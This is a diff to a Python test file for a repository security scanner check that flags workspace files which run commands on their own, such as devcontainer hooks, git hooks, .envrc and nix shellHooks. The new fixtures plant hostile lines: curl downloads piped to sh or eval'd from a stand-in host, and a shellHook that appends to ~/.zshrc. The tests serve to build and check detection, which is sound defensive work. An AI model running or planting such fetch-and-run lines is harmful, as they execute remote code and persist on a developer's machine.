@@ -20,13 +20,17 @@ def test_fail(machine):
     os.chmod(machine.workspace / ".git/hooks/post-checkout", 0o755)
     machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": "./boot.sh"}')
     machine.ws(".envrc", "use nix\n")
+    # the dev shell `use nix` enters runs its shellHook: here a download piped into sh
+    machine.ws("shell.nix", "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n"
+               "  shellHook = ''\n    curl -fsSL https://x.invalid/h | sh\n  '';\n}\n")
     machine.ws(".husky/pre-commit", "npx lint-staged\n")
     out = machine.run("AGT009")
-    assert out.status is Status.FAIL
+    assert out.status is Status.FAIL and not out.advisory
     assert [(e.path, e.line) for e in out.evidence] == [
-        (".devcontainer/devcontainer.json", 1), (".envrc", None), (".git/config", 2),
+        (".devcontainer/devcontainer.json", 1), ("shell.nix", 3), (".git/config", 2),
         (".git/config", 3), (".git/config", 5), (".git/hooks/post-checkout", None),
-        (".husky/pre-commit", None)]  # advice: a husky hook that runs lint-staged
+        (".envrc", None),
+        (".husky/pre-commit", None)]  # advice: .envrc itself, a husky hook running lint-staged
 
 
 def test_unknown_bad_devcontainer(machine):
@@ -182,7 +186,7 @@ def test_a_hook_manager_dependency_with_its_configuration_is_judged_by_its_hooks
     import json
 
     machine.ws("package.json", json.dumps({"name": "x", "devDependencies": {
-        "lefthook": "^1.5.0", "simple-git-hooks": "^2"},
+        "lefthook": "^1.5.0", "simple-git-hooks": "^2", "lint-staged": "^15"},
         "simple-git-hooks": {"pre-commit": "npx lint-staged"}}, indent=2))
     machine.ws("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      run: make lint\n")
     out = machine.run("AGT009")
@@ -254,3 +258,40 @@ def test_quarantine_alone_is_advice_and_its_files_are_not_judged(machine):
     assert out.status is Status.FAIL and out.advisory, out
     assert [e.path for e in out.evidence] == [".ztsa-quarantine/r1/manifest.json"]
     assert machine.run("SUP015").status is Status.PASS
+
+
+def test_envrc_is_judged_by_what_it_runs(machine):
+    """crush, helix, gitbutler, bat: `.envrc` that says `use flake` (or `use flake ||
+    use nix; eval "$shellHook"`) of a dev shell whose shellHook only sets variables is
+    advice. The same file gates when the dev shell's shellHook writes a shell start-up
+    file, when it sources a file that runs a fetched string, when it uses a flake from
+    elsewhere, or when it puts a workspace directory first on PATH; a sourced file that
+    cannot be judged is unknown."""
+    machine.ws(".envrc", "watch_file flake.lock\nuse flake || use nix\neval \"$shellHook\"\n"
+               "dotenv_if_exists\n")
+    flake = ("{\n  outputs = { self, nixpkgs }: {\n    devShells.x86_64-linux.default =\n"
+             "      nixpkgs.legacyPackages.x86_64-linux.mkShell {\n        shellHook = ''\n"
+             "          export RUST_BACKTRACE=1\n          export TMP_OUT=\"''${TMPDIR:-/tmp}/o\"\n"
+             "        '';\n      };\n  };\n}\n")
+    machine.ws("flake.nix", flake)
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert [e.path for e in out.evidence] == [".envrc", "flake.nix"]
+    machine.ws("flake.nix", flake.replace("export RUST_BACKTRACE=1",
+                                          "echo 'source ~/.cache/x' >> ~/.zshrc"))
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and not out.advisory
+    assert (out.evidence[0].path, out.evidence[0].line) == ("flake.nix", 5)
+    assert "~/.zshrc" in out.evidence[0].detail
+    machine.ws("flake.nix", flake)
+    for envrc, needle in (
+            ("use flake github:someone/devshell\n", "from outside the repository"),
+            ("PATH_add bin\n", "first on PATH"),
+            ("source_env .envrc.local\n", "runs a fetched string")):
+        machine.ws(".envrc.local", 'eval "$(curl -fsSL https://x.invalid/env)"\n')
+        machine.ws(".envrc", envrc)
+        out = machine.run("AGT009")
+        assert out.status is Status.FAIL and not out.advisory, (envrc, out)
+        assert any(needle in e.detail for e in out.evidence), (envrc, out)
+    machine.ws(".envrc.local", b"\xff\xfe\x00 not text")
+    assert machine.run("AGT009").status is Status.UNKNOWN
